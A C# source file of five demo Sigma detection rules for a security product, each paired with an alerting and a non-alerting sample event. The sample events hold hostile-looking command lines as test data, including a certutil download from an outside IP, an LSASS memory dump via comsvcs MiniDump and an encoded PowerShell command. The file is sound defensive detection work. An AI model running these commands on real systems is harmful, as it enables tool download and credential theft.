using CraftedSignal.Domain.Testing;

namespace CraftedSignal.Domain.Sandbox;

/// <summary>
/// The demo's Sigma rules, written for this product (not taken from a public rule set), each with a case that must alert
/// and one that must not. Each fires on some of <see cref="DemoEvents"/>' malicious events and stays quiet on the benign ones.
/// </summary>
internal static class DemoRules
{
    public static IReadOnlyList<DemoRule> All { get; } =
    [
        new("""
            title: Demo - Office application starts a shell
            id: 5d0e7c1e-1f3a-4d4b-9c21-0c6f3a0d9e01
            status: experimental
            description: Word or Excel starting cmd or PowerShell is how many macro droppers begin.
            author: CraftedSignal demo
            tags:
              - attack.execution
              - attack.t1204.002
            logsource:
              product: windows
              category: process_creation
            detection:
              office_parent:
                ParentImage|endswith:
                  - '\WINWORD.EXE'
                  - '\EXCEL.EXE'
              shell_child:
                Image|endswith:
                  - '\cmd.exe'
                  - '\powershell.exe'
              condition: office_parent and shell_child
            falsepositives:
              - Add-ins that run scripts (rare)
            level: high
            """,
            [
                new("Word starts cmd", TestExpectation.Alert,
                    """{"ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c whoami"}"""),
                new("Explorer starts cmd", TestExpectation.NoAlert,
                    """{"ParentImage": "C:\\Windows\\explorer.exe", "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe"}"""),
            ]),
        new("""
            title: Demo - PowerShell with an encoded command
            id: 5d0e7c1e-1f3a-4d4b-9c21-0c6f3a0d9e02
            status: experimental
            description: An encoded command hides what PowerShell runs; administrators rarely need it.
            author: CraftedSignal demo
            tags:
              - attack.execution
              - attack.t1059.001
            logsource:
              product: windows
              category: process_creation
            detection:
              powershell:
                Image|endswith: '\powershell.exe'
              encoded_flag:
                CommandLine|contains:
                  - ' -enc '
                  - ' -EncodedCommand '
                  - ' -e '
              condition: powershell and encoded_flag
            falsepositives:
              - Management agents that encode their scripts
            level: medium
            """,
            [
                new("Encoded command", TestExpectation.Alert,
                    """{"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell.exe -NoP -EncodedCommand SQBFAFgA"}"""),
                new("Script file", TestExpectation.NoAlert,
                    """{"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1"}"""),
            ]),
        new("""
            title: Demo - certutil downloads a file
            id: 5d0e7c1e-1f3a-4d4b-9c21-0c6f3a0d9e03
            status: experimental
            description: certutil's URL cache fetches files from the internet, a common way to bring tools in.
            author: CraftedSignal demo
            tags:
              - attack.command_and_control
              - attack.t1105
            logsource:
              product: windows
              category: process_creation
            detection:
              certutil:
                Image|endswith: '\certutil.exe'
              download:
                CommandLine|contains|all:
                  - 'urlcache'
                  - 'http'
              condition: certutil and download
            falsepositives:
              - Certificate revocation list checks scripted by administrators
            level: high
            """,
            [
                new("Download with urlcache", TestExpectation.Alert,
                    """{"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.7/a.bin a.bin"}"""),
                new("Verify a certificate", TestExpectation.NoAlert,
                    """{"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil.exe -verify intranet.cer"}"""),
            ]),
        new("""
            title: Demo - LSASS memory dumped with comsvcs
            id: 5d0e7c1e-1f3a-4d4b-9c21-0c6f3a0d9e04
            status: experimental
            description: rundll32 calling comsvcs.dll MiniDump writes a process's memory to disk, usually LSASS for its credentials.
            author: CraftedSignal demo
            tags:
              - attack.credential_access
              - attack.t1003.001
            logsource:
              product: windows
              category: process_creation
            detection:
              rundll32:
                Image|endswith: '\rundll32.exe'
              minidump:
                CommandLine|contains|all:
                  - 'comsvcs'
                  - 'MiniDump'
              condition: rundll32 and minidump
            falsepositives:
              - Unlikely
            level: critical
            """,
            [
                new("MiniDump of a process", TestExpectation.Alert,
                    """{"Image": "C:\\Windows\\System32\\rundll32.exe", "CommandLine": "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 l.dmp full"}"""),
                new("Other rundll32 use", TestExpectation.NoAlert,
                    """{"Image": "C:\\Windows\\System32\\rundll32.exe", "CommandLine": "rundll32.exe shell32.dll,Control_RunDLL"}"""),
            ]),
        new("""
            title: Demo - Failed network logon as Administrator
            id: 5d0e7c1e-1f3a-4d4b-9c21-0c6f3a0d9e05
            status: experimental
            description: Someone tried the built-in Administrator account over the network with a wrong password.
            author: CraftedSignal demo
            tags:
              - attack.credential_access
              - attack.t1110.001
            logsource:
              product: windows
              service: security
            detection:
              failed_logon:
                EventID: 4625
                LogonType: 3
              administrator:
                TargetUserName|contains: 'admin'
              condition: failed_logon and administrator
            falsepositives:
              - A service still configured with an old Administrator password
            level: medium
            """,
            [
                new("Wrong password for Administrator", TestExpectation.Alert,
                    """{"EventID": 4625, "LogonType": 3, "TargetUserName": "Administrator", "IpAddress": "198.51.100.23"}"""),
                new("Successful logon", TestExpectation.NoAlert,
                    """{"EventID": 4624, "LogonType": 3, "TargetUserName": "Administrator", "IpAddress": "10.0.1.20"}"""),
            ]),
    ];
}
